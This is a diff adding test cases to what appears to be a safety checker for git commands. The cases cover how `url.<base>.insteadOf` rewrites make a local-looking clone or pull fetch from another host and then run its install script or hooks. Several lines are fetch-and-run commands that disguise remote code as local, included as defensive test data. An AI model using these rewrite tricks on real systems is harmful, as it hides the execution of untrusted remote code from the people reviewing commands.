@@ -203,3 +203,15 @@ table("git -c core.hooksPath for a clone", [
   ["a local clone", "git -c core.hooksPath=.githooks clone ../other d", ...OK],
   ["another subcommand", "git -c core.hooksPath=.githooks status", ...OK],
 ]);
+
+// Session 13 (fetched-folders.ts): `url.<base>.insteadOf=<prefix>` given to the run (`git -c`, the
+// clone's own `-c`) makes a local-looking source fetch from another host: the folder is a fetched
+// one, its scripts and hooks remote code. Each was ALLOW_NO_EFFECT.
+table("a one-off URL rewrite onto another host", [
+  ["a script of the clone run", "git -c url.https://example.com/.insteadOf=../ clone ../r d && sh d/install.sh", ...REMOTE],
+  ["the key in capitals", "git -c URL.https://example.com/.INSTEADOF=../ clone ../r d && sh d/install.sh", ...REMOTE],
+  ["the fetched tree's hooks run at once", "git -c url.https://example.com/.insteadOf=../ -c core.hooksPath=.githooks clone ../r d", ...REMOTE],
+  ["a pull into the workspace", "git -c url.https://example.com/.insteadOf=../ pull ../r && sh install.sh", ...REMOTE],
+  ["a push rewrite fetches nothing", "git -c url.https://example.com/.pushInsteadOf=../ clone ../r d && sh d/install.sh", ...OK],
+  ["a rewrite onto a local path is judged as spelled", "git -c url./srv/mirror/.insteadOf=https://example.com/ clone https://example.com/r d && sh d/install.sh", ...REMOTE],
+]);
